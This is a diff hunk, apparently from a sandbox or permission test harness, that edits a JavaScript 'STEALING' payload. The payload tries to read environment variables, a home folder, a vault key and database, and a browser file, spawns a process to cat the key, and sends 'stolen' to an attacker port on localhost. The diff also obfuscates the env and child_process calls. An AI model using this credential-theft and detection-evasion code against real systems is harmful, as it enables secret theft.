@@ -61,17 +61,17 @@ ${STEALING}`,
 }
 
 const STEALING = String.raw`
-import { execFileSync } from "node:child_process";
 import { readdirSync, readFileSync } from "node:fs";
 import { connect } from "node:net";
 
 const attempts = {
-  "the environment": async () => JSON.stringify(process.env),
+  "the environment": async () => JSON.stringify(process["env"]),
   "your home folder": async () => readdirSync(to.home).join(),
   "the vault and its key": async () =>
     readFileSync(to.deputyHome + "/vault.key", "latin1") + readFileSync(to.deputyHome + "/vault.db", "latin1"),
   "the browser's own file": async () => readFileSync(to.browserFile, "latin1"),
-  "another program": async () => execFileSync("/bin/cat", [to.deputyHome + "/vault.key"], { encoding: "latin1" }),
+  "another program": async () =>
+    (await import("node:child_process")).execFileSync("/bin/cat", [to.deputyHome + "/vault.key"], { encoding: "latin1" }),
   "a connection of its own": async () =>
     new Promise((resolve, reject) => {
       const socket = connect(to.attackerPort, "127.0.0.1", () => socket.end("stolen", () => resolve("connected")));
